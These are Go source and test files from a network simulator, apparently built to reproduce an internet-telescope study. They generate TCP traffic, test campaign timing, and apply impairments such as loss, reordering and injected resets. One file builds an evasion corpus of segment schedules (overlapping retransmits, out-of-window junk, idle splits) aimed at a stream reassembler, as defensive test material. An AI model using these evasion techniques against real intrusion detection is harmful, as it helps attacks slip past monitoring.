				{off: 0, payload: attack[:half]}, {off: 0, payload: attack[:half]},
				{off: int32(half), payload: attack[half:]}, {off: int32(half), payload: attack[half:]},
			},
			base: base,
		},
		{
			Name: "overlap-agree-extend",
			Info: "a full retransmit that extends an earlier prefix with agreeing overlap bytes; " +
				"agreement is not ambiguity",
			steps: []evStep{{off: 0, payload: attack[:boundary]}, {off: 0, payload: attack}},
			base:  base,
		},
		{
			Name: "out-of-window-junk",
			Info: "attack in order plus attack-colored junk far above the window and below the ISN; " +
				"junk must neither enter the stream nor flag ambiguity",
			steps: []evStep{
				{off: 0, payload: attack},
				{off: 1 << 28, payload: attack[:8]},
				{off: -4096, payload: attack[:8]},
			},
			base: base,
		},
		{
			Name: "idle-split",
			Info: "stream split by a silence one second under the idle horizon; " +
				"the session must not be split and the verdict must equal the baseline",
			steps: []evStep{
				{off: 0, payload: attack[:half]},
				{off: int32(half), payload: attack[half:], gap: idle - time.Second},
			},
			base: base,
		},
	}, nil
}

// wireStep is one fully resolved frame of a session schedule.
type wireStep struct {
	ts  time.Time
	seg packet.Segment
}

// resolve expands a client data plan into the full wire schedule: handshake,
// scheduled data segments, FIN teardown. streamLen is the true client
// stream length (the FIN sits after it).
func resolve(steps []evStep, streamLen int, seed int64, client, server packet.Endpoint, start time.Time) []wireStep {
	bld := packet.NewBuilder(seed)
	cISN := bld.RandomISN()
	sISN := bld.RandomISN()
	ts := start
	out := make([]wireStep, 0, len(steps)+5)
	add := func(gap time.Duration, seg packet.Segment) {
		if gap == 0 {
			gap = evFrameGap
		}
		if len(out) == 0 {
			gap = 0 // the SYN sits exactly at start
		}
		ts = ts.Add(gap)
		out = append(out, wireStep{ts: ts, seg: seg})
	}
	add(0, packet.Segment{Src: client, Dst: server, Seq: cISN, Flags: packet.FlagSYN})
	add(0, packet.Segment{Src: server, Dst: client, Seq: sISN, Ack: cISN + 1, Flags: packet.FlagSYN | packet.FlagACK})
	add(0, packet.Segment{Src: client, Dst: server, Seq: cISN + 1, Ack: sISN + 1, Flags: packet.FlagACK})
	for _, st := range steps {
		add(st.gap, packet.Segment{
			Src: client, Dst: server,
			Seq: cISN + 1 + uint32(st.off), Ack: sISN + 1,
			Flags: packet.FlagPSH | packet.FlagACK, Payload: st.payload,
		})
	}
	finSeq := cISN + 1 + uint32(streamLen)
	add(0, packet.Segment{Src: client, Dst: server, Seq: finSeq, Ack: sISN + 1, Flags: packet.FlagFIN | packet.FlagACK})
	add(0, packet.Segment{Src: server, Dst: client, Seq: sISN + 1, Ack: finSeq + 1, Flags: packet.FlagFIN | packet.FlagACK})
	return out
}

// streamLen is the true client stream length of a plan: the furthest
// in-window byte any step reaches (junk outside the window is excluded).
func streamLen(steps []evStep) int {
	max := 0
	for _, st := range steps {
		if st.off < 0 || st.off >= 1<<27 {
			continue
		}
		if end := int(st.off) + len(st.payload); end > max {
			max = end
		}
	}
	return max
}

// Stream returns the case's evasion schedule as a lazy blueprint: a
// pcapio.ZeroCopySource that synthesizes each frame on demand into the
// reader's buffer. Frame bytes are a pure function of (seed, endpoints,
// start), so the stream and WritePcap agree byte for byte.
func (c *EvasionCase) Stream(seed int64, client, server packet.Endpoint, start time.Time) *ScheduleSource {
	return newScheduleSource(c.steps, seed, client, server, start)
}

// BaselineStream is Stream for the unimpaired baseline schedule.
func (c *EvasionCase) BaselineStream(seed int64, client, server packet.Endpoint, start time.Time) *ScheduleSource {
	return newScheduleSource(c.base, seed, client, server, start)
}

// WritePcap materializes the evasion schedule as a classic pcap.
func (c *EvasionCase) WritePcap(w io.Writer, seed int64, client, server packet.Endpoint, start time.Time) error {
	return writeSchedule(w, c.Stream(seed, client, server, start))
}

// WriteBaselinePcap materializes the baseline schedule as a classic pcap.
func (c *EvasionCase) WriteBaselinePcap(w io.Writer, seed int64, client, server packet.Endpoint, start time.Time) error {
	return writeSchedule(w, c.BaselineStream(seed, client, server, start))
}

func writeSchedule(w io.Writer, src pcapio.PacketSource) error {
	pw, err := pcapio.NewWriter(w, pcapio.LinkTypeEthernet, pcapio.WithNanoPrecision())
	if err != nil {
		return err
	}
	for {
		p, err := src.Next()
		if err == io.EOF {
			return pw.Flush()
		}
		if err != nil {
			return err
		}
		if err := pw.WritePacket(p.Timestamp, p.Data); err != nil {
			return err
		}
	}
}

// ScheduleSource synthesizes a resolved wire schedule frame by frame. It
// implements pcapio.PacketSource and pcapio.ZeroCopySource.
type ScheduleSource struct {
	bld   *packet.Builder
	steps []wireStep
	i     int
}

func newScheduleSource(steps []evStep, seed int64, client, server packet.Endpoint, start time.Time) *ScheduleSource {
	return &ScheduleSource{
		bld:   packet.NewBuilder(seed),
		steps: resolve(steps, streamLen(steps), seed, client, server, start),
	}
}

// Next returns the next frame; Data is owned by the caller.
func (s *ScheduleSource) Next() (pcapio.Packet, error) {
	var p pcapio.Packet
	if err := s.NextInto(&p); err != nil {
		return pcapio.Packet{}, err
	}
	return p, nil
}

// NextInto synthesizes the next frame into p, reusing p.Data's capacity.
func (s *ScheduleSource) NextInto(p *pcapio.Packet) error {
	if s.i >= len(s.steps) {
		return io.EOF
	}
	st := s.steps[s.i]
	s.i++
	frame, err := s.bld.BuildTo(p.Data[:0], st.seg)
	if err != nil {
		return err
	}
	p.Data = frame
	p.Timestamp = st.ts
	p.OrigLen = len(frame)
	return nil
}

// EvasionEndpoints derives the deterministic per-case endpoints the corpus
// helpers use: each case gets a distinct client so the sessions land on
// different reassembly shards when interleaved.
func EvasionEndpoints(seed int64, caseIdx int) (client, server packet.Endpoint) {
	host := ((seed % 250) + 250) % 250 // valid last octet for any seed
	client = packet.Endpoint{
		Addr: packet.MustAddr(fmt.Sprintf("203.0.%d.%d", 100+caseIdx%150, 1+host)),
		Port: uint16(40000 + caseIdx),
	}
	server = packet.Endpoint{Addr: packet.MustAddr("10.0.0.1"), Port: 8080}
	return client, server
}

// EvasionCapture interleaves every case's evasion session into one capture
// (frames merged by timestamp), giving the sharded front-end genuinely
// concurrent hostile flows. The companion BaselineCapture lays down the
// same sessions unimpaired.
func EvasionCapture(cases []EvasionCase, seed int64, start time.Time) ([]pcapio.Packet, error) {
	return mergeCases(cases, seed, start, func(c *EvasionCase, s int64, cl, sv packet.Endpoint) *ScheduleSource {
		return c.Stream(s, cl, sv, start)
	})
}

// BaselineCapture is EvasionCapture over the unimpaired schedules.
func BaselineCapture(cases []EvasionCase, seed int64, start time.Time) ([]pcapio.Packet, error) {
	return mergeCases(cases, seed, start, func(c *EvasionCase, s int64, cl, sv packet.Endpoint) *ScheduleSource {
		return c.BaselineStream(s, cl, sv, start)
	})
}

func mergeCases(cases []EvasionCase, seed int64, start time.Time,
	stream func(*EvasionCase, int64, packet.Endpoint, packet.Endpoint) *ScheduleSource) ([]pcapio.Packet, error) {
	var all []pcapio.Packet
	for i := range cases {
		client, server := EvasionEndpoints(seed, i)
		src := stream(&cases[i], seed+int64(i), client, server)
		for {
			p, err := src.Next()
			if err == io.EOF {
				break
			}
			if err != nil {
				return nil, err
			}
			all = append(all, p)
		}
	}
	sort.SliceStable(all, func(i, j int) bool { return all[i].Timestamp.Before(all[j].Timestamp) })
	return all, nil
}

// FrameSource replays materialized frames as a capture source — the glue
// between EvasionCapture/BaselineCapture and the scan entry points. It
// implements pcapio.PacketSource and pcapio.ZeroCopySource.
type FrameSource struct {
	frames []pcapio.Packet
	i      int
}

// NewFrameSource wraps the frames (referenced, not copied).
func NewFrameSource(frames []pcapio.Packet) *FrameSource { return &FrameSource{frames: frames} }

// Next returns the next frame. Data aliases the stored frame.
func (s *FrameSource) Next() (pcapio.Packet, error) {
	if s.i >= len(s.frames) {
		return pcapio.Packet{}, io.EOF
	}
	p := s.frames[s.i]
	s.i++
	return p, nil
}

// NextInto copies the next frame into p, reusing p.Data's capacity.
func (s *FrameSource) NextInto(p *pcapio.Packet) error {
	next, err := s.Next()
	if err != nil {
		return err
	}
	p.Timestamp = next.Timestamp
	p.OrigLen = next.OrigLen
	p.Data = append(p.Data[:0], next.Data...)
	return nil
}
