package netsim

import (
	"math/rand"
	"net/netip"
	"testing"
	"time"
)

func TestPoolBasics(t *testing.T) {
	p := MustPool(1, "10.0.0.0/24", "192.0.2.0/28")
	if p.Size() != 256+16 {
		t.Errorf("Size = %d, want 272", p.Size())
	}
	for i := 0; i < 1000; i++ {
		a := p.Next()
		if !p.Contains(a) {
			t.Fatalf("Next() returned %s outside pool", a)
		}
	}
}

func TestPoolDeterministic(t *testing.T) {
	p1 := MustPool(5, "10.0.0.0/16")
	p2 := MustPool(5, "10.0.0.0/16")
	for i := 0; i < 100; i++ {
		if p1.Next() != p2.Next() {
			t.Fatal("same seed diverged")
		}
	}
}

func TestPoolRejectsIPv6(t *testing.T) {
	_, err := NewPool(1, netip.MustParsePrefix("2001:db8::/64"))
	if err == nil {
		t.Error("NewPool accepted IPv6 prefix")
	}
	if _, err := NewPool(1); err == nil {
		t.Error("NewPool accepted empty prefix list")
	}
}

func TestPoolCoversRange(t *testing.T) {
	// With a tiny pool, repeated draws should hit most addresses (reuse).
	p := MustPool(2, "198.51.100.0/28")
	seen := map[netip.Addr]bool{}
	for i := 0; i < 2000; i++ {
		seen[p.Next()] = true
	}
	if len(seen) < 14 {
		t.Errorf("coverage = %d/16 addresses", len(seen))
	}
}

func TestSourcesDistinct(t *testing.T) {
	pool := MustPool(3, "203.0.113.0/24")
	s := NewSources(3, pool, 50)
	if s.Len() != 50 {
		t.Fatalf("Len = %d", s.Len())
	}
	seen := map[netip.Addr]bool{}
	for _, a := range s.Addrs() {
		if seen[a] {
			t.Fatalf("duplicate source %s", a)
		}
		seen[a] = true
	}
	for i := 0; i < 100; i++ {
		if !seen[s.Pick()] {
			t.Fatal("Pick returned address outside population")
		}
	}
}

func TestCampaignTimesFirstPinned(t *testing.T) {
	first := time.Date(2021, 12, 10, 13, 0, 0, 0, time.UTC)
	end := time.Date(2023, 3, 1, 0, 0, 0, 0, time.UTC)
	c := CampaignTimes{First: first, End: end}
	rng := rand.New(rand.NewSource(1))
	ts := c.Sample(rng, 500)
	if len(ts) != 500 {
		t.Fatalf("len = %d", len(ts))
	}
	if !ts[0].Equal(first) {
		t.Errorf("first event %v, want %v", ts[0], first)
	}
	for i := 1; i < len(ts); i++ {
		if ts[i].Before(ts[i-1]) {
			t.Fatal("times not sorted")
		}
		if ts[i].Before(first) || ts[i].After(end) {
			t.Fatalf("event %v outside [%v, %v]", ts[i], first, end)
		}
	}
}

func TestCampaignTimesBurstShape(t *testing.T) {
	first := time.Date(2022, 1, 1, 0, 0, 0, 0, time.UTC)
	end := first.Add(600 * 24 * time.Hour)
	c := CampaignTimes{First: first, End: end, BurstWeight: 0.9, BurstMean: 10 * 24 * time.Hour}
	rng := rand.New(rand.NewSource(2))
	ts := c.Sample(rng, 5000)
	within30 := 0
	for _, tm := range ts {
		if tm.Sub(first) <= 30*24*time.Hour {
			within30++
		}
	}
	// With 90% burst weight and a 10-day mean, the first month should hold
	// the strong majority of events.
	if frac := float64(within30) / float64(len(ts)); frac < 0.7 {
		t.Errorf("first-30-day fraction = %.2f, want > 0.7 for bursty campaign", frac)
	}
}

func TestCampaignTimesTailShape(t *testing.T) {
	first := time.Date(2022, 1, 1, 0, 0, 0, 0, time.UTC)
	end := first.Add(600 * 24 * time.Hour)
	c := CampaignTimes{First: first, End: end, BurstWeight: 0.1}
	rng := rand.New(rand.NewSource(3))
	ts := c.Sample(rng, 5000)
	lateHalf := 0
	for _, tm := range ts {
		if tm.Sub(first) > 300*24*time.Hour {
			lateHalf++
		}
	}
	// Tail-dominated campaigns keep a large share of late events.
	if frac := float64(lateHalf) / float64(len(ts)); frac < 0.35 {
		t.Errorf("late-half fraction = %.2f, want > 0.35 for sustained campaign", frac)
	}
}

func TestCampaignTimesDegenerateWindow(t *testing.T) {
	first := time.Date(2023, 2, 28, 0, 0, 0, 0, time.UTC)
	c := CampaignTimes{First: first, End: first}
	ts := c.Sample(rand.New(rand.NewSource(4)), 10)
	if len(ts) != 10 {
		t.Fatalf("len = %d", len(ts))
	}
	for _, tm := range ts {
		if !tm.Equal(first) {
			t.Fatal("degenerate window produced spread events")
		}
	}
}

func TestCampaignTimesZeroAndOne(t *testing.T) {
	c := CampaignTimes{First: time.Unix(0, 0), End: time.Unix(1000, 0)}
	if got := c.Sample(rand.New(rand.NewSource(1)), 0); got != nil {
		t.Errorf("Sample(0) = %v", got)
	}
	one := c.Sample(rand.New(rand.NewSource(1)), 1)
	if len(one) != 1 || !one[0].Equal(time.Unix(0, 0)) {
		t.Errorf("Sample(1) = %v", one)
	}
}

func TestPoissonTimes(t *testing.T) {
	start := time.Date(2021, 3, 1, 0, 0, 0, 0, time.UTC)
	end := start.Add(100 * time.Hour)
	rng := rand.New(rand.NewSource(5))
	ts := PoissonTimes(rng, start, end, time.Hour)
	if len(ts) < 60 || len(ts) > 150 {
		t.Errorf("Poisson count = %d, want ~100", len(ts))
	}
	for i, tm := range ts {
		if tm.Before(start) || !tm.Before(end) {
			t.Fatalf("event %v outside window", tm)
		}
		if i > 0 && tm.Before(ts[i-1]) {
			t.Fatal("Poisson times not increasing")
		}
	}
}

func TestPoissonTimesEmptyWindow(t *testing.T) {
	now := time.Now()
	if got := PoissonTimes(rand.New(rand.NewSource(1)), now, now, time.Hour); got != nil {
		t.Errorf("empty window produced %d events", len(got))
	}
	if got := PoissonTimes(rand.New(rand.NewSource(1)), now, now.Add(time.Hour), 0); got != nil {
		t.Error("zero meanGap produced events")
	}
}
