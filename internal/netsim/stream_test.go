package netsim

import (
	"math"
	"math/rand"
	"testing"
	"time"
)

func TestOrderedUniformsAscendingAndUniform(t *testing.T) {
	rng := rand.New(rand.NewSource(1))
	const n = 20000
	ou := NewOrderedUniforms(rng, n)
	var prev float64
	var sum float64
	count := 0
	for {
		v, ok := ou.Next()
		if !ok {
			break
		}
		if v < prev {
			t.Fatalf("value %d: %g < previous %g", count, v, prev)
		}
		if v < 0 || v >= 1.0000001 {
			t.Fatalf("value %g outside [0,1]", v)
		}
		prev = v
		sum += v
		count++
	}
	if count != n {
		t.Fatalf("emitted %d values, want %d", count, n)
	}
	if ou.Remaining() != 0 {
		t.Fatalf("Remaining = %d after exhaustion", ou.Remaining())
	}
	if mean := sum / n; math.Abs(mean-0.5) > 0.02 {
		t.Errorf("mean = %.3f, want ~0.5 (order statistics must still be uniform)", mean)
	}
}

func TestCampaignTimesStreamMatchesSample(t *testing.T) {
	first := time.Date(2022, 1, 5, 8, 0, 0, 0, time.UTC)
	end := first.Add(400 * 24 * time.Hour)
	c := CampaignTimes{First: first, BurstStart: first.Add(48 * time.Hour), End: end,
		BurstWeight: 0.45, TailPower: 2}

	want := c.Sample(rand.New(rand.NewSource(9)), 777)
	st := c.Stream(rand.New(rand.NewSource(9)), 777)
	for i, w := range want {
		got, ok := st.Next()
		if !ok {
			t.Fatalf("stream ended at %d of %d", i, len(want))
		}
		if !got.Equal(w) {
			t.Fatalf("event %d: stream %v != sample %v", i, got, w)
		}
	}
	if _, ok := st.Next(); ok {
		t.Fatal("stream emitted more than n events")
	}
}

func TestCampaignTimesStreamShape(t *testing.T) {
	first := time.Date(2022, 1, 1, 0, 0, 0, 0, time.UTC)
	end := first.Add(600 * 24 * time.Hour)
	c := CampaignTimes{First: first, End: end, BurstWeight: 0.9, BurstMean: 10 * 24 * time.Hour}
	st := c.Stream(rand.New(rand.NewSource(4)), 5000)
	var prev time.Time
	within30, n := 0, 0
	for {
		tm, ok := st.Next()
		if !ok {
			break
		}
		if n == 0 && !tm.Equal(first) {
			t.Fatalf("first event %v, want pinned %v", tm, first)
		}
		if tm.Before(prev) {
			t.Fatalf("event %d: %v before previous %v", n, tm, prev)
		}
		if tm.Before(first) || tm.After(end) {
			t.Fatalf("event %v outside window", tm)
		}
		if tm.Sub(first) <= 30*24*time.Hour {
			within30++
		}
		prev = tm
		n++
	}
	if n != 5000 {
		t.Fatalf("emitted %d, want 5000", n)
	}
	if frac := float64(within30) / float64(n); frac < 0.7 {
		t.Errorf("first-30-day fraction = %.2f, want > 0.7 for a bursty campaign", frac)
	}
}

func TestCampaignTimesStreamDegenerateWindow(t *testing.T) {
	first := time.Date(2022, 6, 1, 0, 0, 0, 0, time.UTC)
	c := CampaignTimes{First: first, End: first} // zero-length window
	st := c.Stream(rand.New(rand.NewSource(1)), 5)
	for i := 0; i < 5; i++ {
		tm, ok := st.Next()
		if !ok || !tm.Equal(first) {
			t.Fatalf("event %d: got (%v, %v), want pinned first", i, tm, ok)
		}
	}
	if _, ok := st.Next(); ok {
		t.Fatal("degenerate stream over-emitted")
	}
}

func TestUniformTimesAscendingInRange(t *testing.T) {
	start := time.Date(2021, 12, 1, 0, 0, 0, 0, time.UTC)
	end := start.Add(90 * 24 * time.Hour)
	ut := NewUniformTimes(rand.New(rand.NewSource(2)), start, end, 1000)
	var prev time.Time
	n := 0
	for {
		tm, ok := ut.Next()
		if !ok {
			break
		}
		if tm.Before(start) || tm.After(end) {
			t.Fatalf("time %v outside [%v, %v]", tm, start, end)
		}
		if tm.Before(prev) {
			t.Fatal("times not ascending")
		}
		prev = tm
		n++
	}
	if n != 1000 {
		t.Fatalf("emitted %d, want 1000", n)
	}
}

func TestPickWithIsIndependentOfPopulationRNG(t *testing.T) {
	pool := MustPool(3, "203.0.113.0/24")
	s := NewSources(3, pool, 50)
	member := map[string]bool{}
	for _, a := range s.Addrs() {
		member[a.String()] = true
	}
	r1 := rand.New(rand.NewSource(11))
	r2 := rand.New(rand.NewSource(11))
	for i := 0; i < 200; i++ {
		a, b := s.PickWith(r1), s.PickWith(r2)
		if a != b {
			t.Fatal("PickWith with equal rngs diverged")
		}
		if !member[a.String()] {
			t.Fatalf("PickWith returned %s outside population", a)
		}
	}
}
