package netsim

import (
	"bytes"
	"fmt"
	"io"
	"testing"
	"time"

	"repro/internal/packet"
	"repro/internal/pcapio"
)

// impairTraffic builds a small deterministic capture: nFlows scripted HTTP
// exchanges interleaved round-robin, one frame each 5ms.
func impairTraffic(t testing.TB, seed int64, nFlows int) []pcapio.Packet {
	t.Helper()
	bld := packet.NewBuilder(seed)
	ts := time.Date(2022, 3, 1, 9, 0, 0, 0, time.UTC)
	var frames []pcapio.Packet
	emit := func(seg packet.Segment) {
		frame, err := bld.Build(seg)
		if err != nil {
			t.Fatal(err)
		}
		frames = append(frames, pcapio.Packet{Timestamp: ts, Data: frame, OrigLen: len(frame)})
		ts = ts.Add(5 * time.Millisecond)
	}
	for i := 0; i < nFlows; i++ {
		c := packet.Endpoint{Addr: packet.MustAddr(fmt.Sprintf("192.0.2.%d", 1+i%250)), Port: uint16(43000 + i)}
		s := packet.Endpoint{Addr: packet.MustAddr("198.51.100.9"), Port: 8080}
		cseq := uint32(100 + 1000*i)
		sseq := uint32(900 + 1000*i)
		emit(packet.Segment{Src: c, Dst: s, Seq: cseq, Flags: packet.FlagSYN})
		emit(packet.Segment{Src: s, Dst: c, Seq: sseq, Ack: cseq + 1, Flags: packet.FlagSYN | packet.FlagACK})
		emit(packet.Segment{Src: c, Dst: s, Seq: cseq + 1, Ack: sseq + 1, Flags: packet.FlagACK})
		body := []byte(fmt.Sprintf("GET /flow/%d HTTP/1.1\r\nHost: telescope\r\nX-Pad: %s\r\n\r\n",
			i, bytes.Repeat([]byte{'p'}, 10+17*i%300)))
		emit(packet.Segment{Src: c, Dst: s, Seq: cseq + 1, Ack: sseq + 1,
			Flags: packet.FlagPSH | packet.FlagACK, Payload: body})
		emit(packet.Segment{Src: c, Dst: s, Seq: cseq + 1 + uint32(len(body)), Ack: sseq + 1,
			Flags: packet.FlagFIN | packet.FlagACK})
		emit(packet.Segment{Src: s, Dst: c, Seq: sseq + 1, Ack: cseq + 2 + uint32(len(body)),
			Flags: packet.FlagFIN | packet.FlagACK})
	}
	return frames
}

func drain(t testing.TB, src pcapio.PacketSource) []pcapio.Packet {
	t.Helper()
	var out []pcapio.Packet
	for {
		p, err := src.Next()
		if err == io.EOF {
			return out
		}
		if err != nil {
			t.Fatal(err)
		}
		out = append(out, p)
	}
}

func sameFrames(t *testing.T, got, want []pcapio.Packet) {
	t.Helper()
	if len(got) != len(want) {
		t.Fatalf("got %d frames, want %d", len(got), len(want))
	}
	for i := range got {
		if !got[i].Timestamp.Equal(want[i].Timestamp) || !bytes.Equal(got[i].Data, want[i].Data) {
			t.Fatalf("frame %d differs (ts %v vs %v, %d vs %d bytes)",
				i, got[i].Timestamp, want[i].Timestamp, len(got[i].Data), len(want[i].Data))
		}
	}
}

var fullProfile = Profile{
	Seed: 7, LossProb: 0.08, DupProb: 0.10, ReorderProb: 0.12,
	ReorderSpan: 2, MTU: 400, AbortProb: 0.02,
}

// TestImpairDeterminism: the same (seed, profile) over the same capture must
// emit a byte-identical frame stream, run after run; a different seed must
// not.
func TestImpairDeterminism(t *testing.T) {
	frames := impairTraffic(t, 3, 40)
	first := drain(t, Impair(NewFrameSource(frames), fullProfile))
	if len(first) == len(frames) {
		t.Fatalf("profile impaired nothing across %d frames", len(frames))
	}
	second := drain(t, Impair(NewFrameSource(frames), fullProfile))
	sameFrames(t, second, first)

	reseeded := fullProfile
	reseeded.Seed = 8
	other := drain(t, Impair(NewFrameSource(frames), reseeded))
	if len(other) == len(first) {
		same := true
		for i := range other {
			if !bytes.Equal(other[i].Data, first[i].Data) {
				same = false
				break
			}
		}
		if same {
			t.Fatal("different seeds produced an identical impaired stream")
		}
	}
}

// TestImpairZeroCopyParity: NextInto must yield the exact frames Next does.
func TestImpairZeroCopyParity(t *testing.T) {
	frames := impairTraffic(t, 3, 40)
	want := drain(t, Impair(NewFrameSource(frames), fullProfile))
	src := Impair(NewFrameSource(frames), fullProfile)
	var got []pcapio.Packet
	var p pcapio.Packet
	for {
		err := src.NextInto(&p)
		if err == io.EOF {
			break
		}
		if err != nil {
			t.Fatal(err)
		}
		got = append(got, pcapio.Packet{
			Timestamp: p.Timestamp, OrigLen: p.OrigLen,
			Data: append([]byte(nil), p.Data...),
		})
	}
	sameFrames(t, got, want)
}

// TestImpairContentAddressedSplit: with flow-disjoint segments and no
// reordering (which counts overtaking frames and is therefore schedule-
// relative), each frame's fate must be identical whether the profile wraps
// the whole capture or each segment separately.
func TestImpairContentAddressedSplit(t *testing.T) {
	frames := impairTraffic(t, 5, 30)
	profile := Profile{Seed: 11, LossProb: 0.15, DupProb: 0.1, MTU: 380, AbortProb: 0.03}

	whole := drain(t, Impair(NewFrameSource(frames), profile))

	var even, odd []pcapio.Packet
	for i, f := range frames {
		// 6 frames per scripted flow: frames split by flow, not position.
		if (i/6)%2 == 0 {
			even = append(even, f)
		} else {
			odd = append(odd, f)
		}
	}
	var split []pcapio.Packet
	for _, src := range ImpairSources([]pcapio.PacketSource{NewFrameSource(even), NewFrameSource(odd)}, profile) {
		split = append(split, drain(t, src)...)
	}
	if len(split) != len(whole) {
		t.Fatalf("split segments emitted %d frames, whole capture %d", len(split), len(whole))
	}
	count := func(frames []pcapio.Packet) map[string]int {
		m := make(map[string]int)
		for _, f := range frames {
			m[string(f.Data)]++
		}
		return m
	}
	w, s := count(whole), count(split)
	for k, n := range w {
		if s[k] != n {
			t.Fatalf("frame fate diverged between whole and split impairment (%d vs %d copies)", n, s[k])
		}
	}
}

// TestImpairStatsConsistency: the bookkeeping must balance — every read
// frame is accounted for exactly once, and emissions match the queue math.
func TestImpairStatsConsistency(t *testing.T) {
	frames := impairTraffic(t, 9, 60)
	src := Impair(NewFrameSource(frames), fullProfile)
	emitted := drain(t, src)
	st := src.Stats()
	if st.Read != uint64(len(frames)) {
		t.Errorf("Read = %d, want %d", st.Read, len(frames))
	}
	if st.Emitted != uint64(len(emitted)) {
		t.Errorf("Emitted = %d, want %d", st.Emitted, len(emitted))
	}
	if want := st.Read - st.Lost - st.MTUDropped - st.Killed + st.Duplicated; st.Emitted != want {
		t.Errorf("Emitted = %d, want balance %d (%+v)", st.Emitted, want, st)
	}
	if st.Aborted == 0 || st.Killed == 0 {
		t.Errorf("abort path unexercised: %+v", st)
	}
	if st.Reordered == 0 || st.Duplicated == 0 || st.Lost == 0 || st.MTUDropped == 0 {
		t.Errorf("some impairments unexercised: %+v", st)
	}
}

// TestImpairAbortInjectsRST: an aborted flow yields one decodable RST and no
// later frames of that flow.
func TestImpairAbortInjectsRST(t *testing.T) {
	frames := impairTraffic(t, 2, 20)
	profile := Profile{Seed: 13, AbortProb: 0.05}
	src := Impair(NewFrameSource(frames), profile)
	emitted := drain(t, src)
	st := src.Stats()
	if st.Aborted == 0 {
		t.Skip("no abort triggered at this seed; adjust the profile")
	}
	rsts := 0
	var dec packet.Packet
	for _, f := range emitted {
		if packet.DecodeInto(&dec, f.Data) != nil {
			continue
		}
		if dec.TCP.Flags&packet.FlagRST != 0 {
			rsts++
		}
	}
	if uint64(rsts) != st.Aborted {
		t.Errorf("found %d RST frames, stats say %d injected", rsts, st.Aborted)
	}
	if st.Killed == 0 {
		t.Error("aborted flow had no subsequent frames killed")
	}
}

// TestImpairInactivePassThrough: the zero profile must not change a thing.
func TestImpairInactivePassThrough(t *testing.T) {
	frames := impairTraffic(t, 1, 6)
	got := drain(t, Impair(NewFrameSource(frames), Profile{}))
	sameFrames(t, got, frames)
	srcs := []pcapio.PacketSource{NewFrameSource(frames)}
	if out := ImpairSources(srcs, Profile{}); out[0] != srcs[0] {
		t.Error("inactive ImpairSources should return the sources unwrapped")
	}
}

func TestParseProfileRoundTrip(t *testing.T) {
	for _, spec := range []string{
		"loss=0.01,dup=0.02,reorder=0.05,span=4,mtu=1400,abort=0.001,seed=7",
		"loss=0.5",
		"mtu=576,seed=-3",
		"none",
		"",
	} {
		p, err := ParseProfile(spec)
		if err != nil {
			t.Fatalf("ParseProfile(%q): %v", spec, err)
		}
		rt, err := ParseProfile(p.String())
		if err != nil {
			t.Fatalf("ParseProfile(%q round-trip %q): %v", spec, p.String(), err)
		}
		if rt != p {
			t.Errorf("round-trip of %q: %+v != %+v", spec, rt, p)
		}
	}
	for _, bad := range []string{"loss=2", "loss=-0.1", "bogus=1", "loss", "mtu=x"} {
		if _, err := ParseProfile(bad); err == nil {
			t.Errorf("ParseProfile(%q) accepted garbage", bad)
		}
	}
	if (Profile{}).Active() {
		t.Error("zero profile reports active")
	}
	if !(Profile{MTU: 1400}).Active() {
		t.Error("MTU-only profile reports inactive")
	}
}

// TestProfileNetProfileBridge: the frame profile maps onto the fault
// package's connection-level schedule.
func TestProfileNetProfileBridge(t *testing.T) {
	np := Profile{AbortProb: 0.25, ReorderProb: 0.1, ReorderSpan: 5}.NetProfile()
	if np.ResetProb != 0.25 {
		t.Errorf("ResetProb = %g, want 0.25", np.ResetProb)
	}
	if np.MaxDelay != 5*time.Millisecond {
		t.Errorf("MaxDelay = %v, want 5ms", np.MaxDelay)
	}
	if d := (Profile{LossProb: 0.1}).NetProfile().MaxDelay; d != 0 {
		t.Errorf("MaxDelay = %v without reordering, want 0", d)
	}
}
