// Package netsim provides the deterministic Internet model underneath the
// traffic generator: cloud IPv4 address pools with pseudorandom allocation
// and reuse (mirroring how DSCOPE's telescope instances constantly cycle
// through provider address space), scanner source populations, and the
// temporal processes that shape exploit campaigns (a post-publication burst
// with a heavy sustained tail, per Figures 4 and 5c).
//
// The package also models the adversarial network (impair.go, evasion.go):
// seeded impairment profiles — loss, reordering, duplication, MTU
// blackholes, mid-stream aborts — composable onto any capture source and
// onto fault.Network, plus an evasion corpus of segment schedules aimed at
// the reassembler. Impairment decisions are content-addressed (a PRF of
// seed and frame bytes), so the same frame meets the same fate on every
// path through the system.
//
// Everything is seeded: the same configuration always yields the same
// simulated Internet, which is what makes the downstream experiment harness
// reproducible.
package netsim

import (
	"fmt"
	"math/rand"
	"net/netip"
	"time"
)

// Pool is an IPv4 address pool that hands out pseudorandom addresses from a
// set of prefixes, the way cloud tenants receive addresses. Allocation may
// repeat addresses over time (cloud IP reuse), which the paper notes
// improves telescope coverage.
type Pool struct {
	prefixes []netip.Prefix
	sizes    []uint32
	total    uint64
	rng      *rand.Rand
}

// NewPool builds a pool over the given IPv4 prefixes.
func NewPool(seed int64, prefixes ...netip.Prefix) (*Pool, error) {
	if len(prefixes) == 0 {
		return nil, fmt.Errorf("netsim: pool needs at least one prefix")
	}
	p := &Pool{rng: rand.New(rand.NewSource(seed))}
	for _, pf := range prefixes {
		if !pf.Addr().Is4() {
			return nil, fmt.Errorf("netsim: prefix %s is not IPv4", pf)
		}
		bits := 32 - pf.Bits()
		size := uint32(1) << bits
		p.prefixes = append(p.prefixes, pf.Masked())
		p.sizes = append(p.sizes, size)
		p.total += uint64(size)
	}
	return p, nil
}

// MustPool is NewPool for static configuration; it panics on error.
func MustPool(seed int64, prefixes ...string) *Pool {
	ps := make([]netip.Prefix, len(prefixes))
	for i, s := range prefixes {
		ps[i] = netip.MustParsePrefix(s)
	}
	p, err := NewPool(seed, ps...)
	if err != nil {
		panic(err)
	}
	return p
}

// Size returns the number of addresses in the pool.
func (p *Pool) Size() uint64 { return p.total }

// Next returns a pseudorandom address from the pool. Addresses repeat.
func (p *Pool) Next() netip.Addr {
	n := uint64(p.rng.Int63n(int64(p.total)))
	for i, size := range p.sizes {
		if n < uint64(size) {
			base := p.prefixes[i].Addr().As4()
			v := be32(base) + uint32(n)
			return netip.AddrFrom4(u32be(v))
		}
		n -= uint64(size)
	}
	// Unreachable: n < total by construction.
	base := p.prefixes[0].Addr().As4()
	return netip.AddrFrom4(base)
}

// AddrAt returns the n-th address of the pool (prefixes concatenated in
// construction order). n is taken modulo the pool size, so any index is
// valid; the mapping is stable, which deterministic allocators rely on.
func (p *Pool) AddrAt(n uint64) netip.Addr {
	n %= p.total
	for i, size := range p.sizes {
		if n < uint64(size) {
